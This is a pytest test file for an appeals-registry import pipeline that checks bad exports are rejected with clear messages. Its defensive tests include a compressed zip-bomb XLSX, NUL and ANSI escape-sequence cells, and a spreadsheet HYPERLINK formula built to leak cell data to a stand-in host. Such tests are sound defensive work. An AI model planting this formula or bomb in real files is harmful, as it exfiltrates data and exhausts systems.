"""Bad exports are rejected with one message naming file, rows, column, values and what was
expected, and the store folder (database, snapshots, import record) is byte-for-byte unchanged."""

from __future__ import annotations

import shutil
import time
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from ingest_fixtures import FIXTURES, SNAPSHOT, registry_frame, write_csv
from test_store import digest

from dashboard import cli
from dashboard.data import queries, schema, store
from dashboard.data.ingest import limits, mapping, pipeline

LATER = date(2016, 10, 31)


@pytest.fixture(autouse=True)
def salt(tmp_path_factory, monkeypatch) -> None:
    monkeypatch.setenv("APPEALS_SALT_FILE", str(tmp_path_factory.getbasetemp() / "salt" / "salt"))


@pytest.fixture(scope="module")
def loaded(tmp_path_factory) -> Path:
    """A store holding the valid export as its first snapshot (copied per test)."""
    folder = tmp_path_factory.mktemp("loaded")
    mp = pytest.MonkeyPatch()
    mp.setenv("APPEALS_SALT_FILE", str(tmp_path_factory.getbasetemp() / "salt" / "salt"))
    pipeline.ingest(
        FIXTURES / "registry_cp1251.csv", "registry_ru", SNAPSHOT, folder / "appeals.duckdb"
    )
    mp.undo()
    return folder


@pytest.fixture
def store_dir(loaded, tmp_path) -> Path:
    target = tmp_path / "store"
    shutil.copytree(loaded, target)
    return target


def rejected(capsys, folder: Path, path: Path, mapping_name: str = "registry_ru") -> str:
    """Run the CLI on a bad file; assert exit 1 and an unchanged store; return stderr."""
    before = digest(folder)
    code = cli.main(
        [
            "ingest",
            str(path),
            "--mapping",
            mapping_name,
            "--snapshot-date",
            LATER.isoformat(),
            "--db",
            str(folder / "appeals.duckdb"),
        ]
    )
    _, err = capsys.readouterr()
    assert code == 1, err
    assert err.startswith(f"error: {path}: rejected, nothing was imported")
    assert digest(folder) == before
    return err


def test_unreadable_xlsx_is_rejected(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_corrupt.xlsx")
    assert "cannot be read as xlsx" in err and "sheet Обращения" in err


def test_ragged_csv_names_the_row(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_ragged.csv")
    assert "1 row(s) with more fields than the header's 21: row 7 (e.g. 23 fields)" in err


def test_wrong_encoding_is_named(capsys, tmp_path):
    utf8_mapping = tmp_path / "utf8.yaml"
    text = mapping.resolve("registry_ru").read_text(encoding="utf-8")
    utf8_mapping.write_text(text.replace("encoding: cp1251", "encoding: utf-8"), encoding="utf-8")
    empty = tmp_path / "empty"
    empty.mkdir()
    err = rejected(capsys, empty, FIXTURES / "registry_cp1251.csv", str(utf8_mapping))
    assert "not readable as utf-8 text" in err and "set encoding:" in err


def test_missing_file_is_rejected(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "no_such_export.csv")
    assert "no such file" in err


def test_missing_column_is_named_with_the_columns_present(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_missing_column.csv")
    assert "missing column(s) 'Дата регистрации' (for received_date)" in err
    assert "the file has columns 'Рег. номер', 'Вид обращения'" in err


def test_bad_dates_name_rows_values_and_format(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_bad_dates.csv")
    assert (
        "column 'Дата регистрации -> received_date', 2 row(s): rows 5, 9; "
        "bad values: '31.02.2016', '2016/13/01'; expected a date like 31.12.2016 (%d.%m.%Y)"
    ) in err
    assert "1 problem(s)" in err  # the missing date is not reported again as empty


def test_unknown_body_lists_the_code_and_where_codes_live(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_unknown_body.csv")
    assert "column 'Орган -> body_id', 2 row(s): rows 4, 12" in err
    assert "'Министерство цифрового развития'" in err
    assert "data/reference/bodies.csv" in err
    assert "body_level" not in err  # derived from body_id: not reported twice


def test_duplicate_appeal_id_names_both_rows(capsys, store_dir):
    err = rejected(capsys, store_dir, FIXTURES / "registry_duplicate_id.csv")
    assert (
        "column 'Рег. номер -> appeal_id', 2 row(s): rows 6, 7; bad values: 'ЕО-2016-00005'" in err
    )
    assert "expected each appeal_id once per snapshot" in err


def test_many_bad_rows_show_first_twenty_and_the_count(capsys, store_dir, tmp_path):
    df = pd.concat([registry_frame()] * 2, ignore_index=True)
    df["Рег. номер"] = [f"X-{i}" for i in range(len(df))]
    df.loc[:29, "Канал"] = "Голубиная почта"
    path = write_csv(df, tmp_path / "many.csv")
    err = rejected(capsys, store_dir, path)
    rows = ", ".join(str(r) for r in range(2, 22))
    assert f"column 'Канал -> channel', 30 row(s): rows {rows} (and 10 more)" in err
    assert "'Голубиная почта'" in err and "expected one of paper, e_portal" in err


def test_bad_applicant_ids_are_masked_in_the_message(capsys, store_dir, tmp_path):
    df = registry_frame()
    df.loc[3, "ИИН/БИН заявителя"] = "12345678"
    df.loc[4, "ИИН/БИН заявителя"] = ""
    path = write_csv(df, tmp_path / "ids.csv")
    err = rejected(capsys, store_dir, path)
    assert "column 'ИИН/БИН заявителя -> applicant_key', 2 row(s): rows 5, 6" in err
    assert "'12****78'" in err and "12345678" not in err
    assert "applicant_kind" not in err


def test_closed_after_snapshot_and_closed_without_outcome_are_errors(capsys, store_dir, tmp_path):
    df = registry_frame()
    df.loc[0, "Дата ответа"] = "15.11.2016"
    closed = df.index[df["Дата ответа"] != ""][1]
    df.loc[closed, "Результат"] = ""
    path = write_csv(df, tmp_path / "closed.csv")
    err = rejected(capsys, store_dir, path)
    assert "column 'Дата ответа -> closed_date', 1 row(s): rows 2; bad values: '2016-11-15'" in err
    assert f"column 'Результат -> outcome', 1 row(s): rows {closed + 2}" in err


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("colums: {}\n", "unknown key 'colums'"),
        ("columns: {appeal_number: A}\n", "'appeal_number' is not a contract column"),
        (
            "columns: {appeal_id: A}\n",
            "contract column 'received_date' is neither in columns nor constants",
        ),
        ("constants: {appeal_type: grievance}\n", "'grievance' is not one of complaint"),
        ("encoding: klingon\n", "encoding 'klingon' is not a Python codec"),
        ("new_codes: maybe\n", "new_codes must be one of reject, add"),
    ],
)
def test_mapping_problems_are_listed_before_reading(tmp_path, text, message):
    path = tmp_path / "m.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(mapping.MappingError, match=message):
        mapping.load(path)


def test_unknown_mapping_name_lists_the_known_ones():
    with pytest.raises(
        mapping.MappingError, match=r"no mapping named 'nope' \(known: .*registry_ru"
    ):
        mapping.load("nope")


def add_mapping(tmp_path: Path, extra: str = "") -> Path:
    """registry_ru with new_codes: add (and any extra lines)."""
    text = mapping.resolve("registry_ru").read_text(encoding="utf-8")
    path = tmp_path / "add.yaml"
    path.write_text(text.replace("new_codes: reject", "new_codes: add\n" + extra), "utf-8")
    return path


def test_new_codes_add_still_needs_a_level_for_an_unknown_body(tmp_path, store_dir):
    before = digest(store_dir)
    with pytest.raises(ValueError, match=r"body_level', 2 row\(s\): rows 4, 12"):
        pipeline.ingest(
            FIXTURES / "registry_unknown_body.csv",
            add_mapping(tmp_path),
            LATER,
            store_dir / "appeals.duckdb",
        )
    assert digest(store_dir) == before


def test_new_codes_add_gives_a_body_named_in_words_a_code_labelled_with_the_text(
    tmp_path, store_dir
):
    db = store_dir / "appeals.duckdb"
    path = add_mapping(tmp_path, "new_body_level: central\n")
    result = pipeline.ingest(FIXTURES / "registry_unknown_body.csv", path, LATER, db)
    assert result.status == "imported"
    got = queries.execute("reference_codes", {}, db)
    added = got[got.source == "import"]
    assert added[["kind", "code", "level", "name_ru"]].values.tolist() == [
        ["body", "import_001", "central", "Министерство цифрового развития"]
    ]
    with store.connect(db) as con:
        n = con.execute("select count(*) from appeals where body_id = 'import_001'").fetchone()[0]
    assert n == 2
    # the registry is kept beside the snapshots: a later import reuses the code
    assert "import_001,Министерство цифрового развития" in (
        (store_dir / "snapshots" / "imported_codes.csv").read_text(encoding="utf-8")
    ).replace("body_id,", "")


def test_new_body_level_must_be_a_level(tmp_path):
    with pytest.raises(mapping.MappingError, match="new_body_level must be one of central, local"):
        mapping.load(add_mapping(tmp_path, "new_body_level: regional\n"))


# --- hostile or runaway files (dashboard/data/ingest/limits.py) ---------------------------


def other_export() -> pd.DataFrame:
    """The valid export with one summary changed: new bytes, so not "already imported"."""
    df = registry_frame()
    df.loc[0, "Краткое содержание"] = "другой текст"
    return df


def test_nul_byte_in_a_text_cell_is_refused_with_its_row_and_column(capsys, store_dir, tmp_path):
    df = registry_frame()
    df.loc[3, "Краткое содержание"] = "жалоба\x00на бездействие"
    err = rejected(capsys, store_dir, write_csv(df, tmp_path / "nul.csv"))
    assert "column 'Краткое содержание', 1 row(s): rows 5" in err
    assert "\\x00" in err and "\x00" not in err  # shown escaped, never raw
    assert "control characters" in err


def test_escape_sequences_are_refused_too(capsys, store_dir, tmp_path):
    df = registry_frame()
    df.loc[0, "Орган"] = "МВД\x1b[31m"
    err = rejected(capsys, store_dir, write_csv(df, tmp_path / "esc.csv"))
    assert "column 'Орган'" in err and "\\x1b" in err


def test_xlsx_that_unpacks_far_beyond_its_size_is_refused_before_parsing(
    capsys, store_dir, tmp_path
):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", " " * (60 << 20))  # 60 MB of nothing
    assert bomb.stat().st_size < 1 << 20
    t0 = time.perf_counter()
    err = rejected(capsys, store_dir, bomb)
    assert time.perf_counter() - t0 < 10  # refused from the zip directory, never parsed
    assert "unpacks to 60 MB" in err and "APPEALS_XLSX_MAX_UNPACKED_MB" in err


def test_header_of_thousands_of_columns_gets_a_short_message(capsys, store_dir, tmp_path):
    wide = tmp_path / "wide.csv"
    wide.write_text(";".join(f"c{i}" for i in range(200_000)) + "\n1;2\n", encoding="cp1251")
    err = rejected(capsys, store_dir, wide)
    assert "columns, over the limit of 500" in err and "'c11' and " in err
    assert len(err) < 1000


def test_more_rows_than_the_limit_are_refused(capsys, store_dir, monkeypatch, tmp_path):
    monkeypatch.setenv("APPEALS_IMPORT_MAX_ROWS", "10")
    err = rejected(capsys, store_dir, write_csv(other_export(), tmp_path / "later.csv"))
    assert "over the limit of 10 (APPEALS_IMPORT_MAX_ROWS)" in err


def test_a_file_over_the_size_limit_is_refused(capsys, store_dir, monkeypatch, tmp_path):
    monkeypatch.setenv("APPEALS_IMPORT_MAX_MB", "0")
    err = rejected(capsys, store_dir, write_csv(other_export(), tmp_path / "later.csv"))
    assert "APPEALS_IMPORT_MAX_MB" in err


def test_raw_ids_in_bad_values_are_masked():
    v = schema.Violation("applicant_key", [0, 1], "a pseudonymised key", ["870101300123"])
    text = v.describe("f.csv")
    assert "87********23" in text and "870101300123" not in text


def test_the_cli_masks_a_raw_id_in_any_error(capsys, monkeypatch):
    def boom(_args):
        raise ValueError("cannot parse '870101300123' in row 2")

    monkeypatch.setattr(cli, "cmd_summary", boom)
    parser = cli.parser()
    monkeypatch.setattr(cli, "parser", lambda _command=None: parser)
    parser._subparsers._group_actions[0].choices["summary"].set_defaults(func=boom)
    assert cli.main(["summary", "--year", "2016"]) == 1
    err = capsys.readouterr().err
    assert "87********23" in err and "870101300123" not in err


def test_control_characters_are_found_per_column():
    raw = pd.DataFrame({"a": ["ok", "bad\x07", None], "b": ["x", "y", "z\tq"]})
    found = limits.control_violations(raw)
    assert [(v.column, v.rows) for v in found] == [("a", [1])]  # a tab is allowed


def test_a_formula_in_an_imported_body_name_leaves_the_export_as_text(tmp_path, store_dir):
    """End to end: import (new_codes: add) -> store -> the overdue list's XLSX and CSV."""
    import io

    import openpyxl

    from dashboard.analysis import deadlines
    from dashboard.data import codes
    from dashboard.data.filters import Filters
    from dashboard.ui import export

    hostile = '=HYPERLINK("http://example.invalid/?leak="&B2,"Открыть")'
    df = other_export()
    df["Орган"] = hostile
    db = store_dir / "appeals.duckdb"
    path = add_mapping(tmp_path, "new_body_level: central\n")
    assert pipeline.ingest(write_csv(df, tmp_path / "f.csv"), path, LATER, db).status == "imported"
    f = Filters(date(2013, 1, 1), LATER, appeal_types=())
    params = {**f.to_sql_params(), "as_of": LATER, "limit": 1000, "offset": 0}
    rows = queries.execute("deadlines_overdue_by_appeal", params, db)
    names = codes.labels("body", "ru", db)
    table = deadlines.overdue_table(rows, "ru", lambda kind, code: names.get(code, code))
    assert (table == hostile).any().any(), "the hostile name reaches the export table"
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(table, "list")))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == "'" + hostile for c in cells)
    csv_text = export.to_csv_bytes(table).decode("utf-8-sig")
    assert "'" + hostile.replace('"', '""') in csv_text
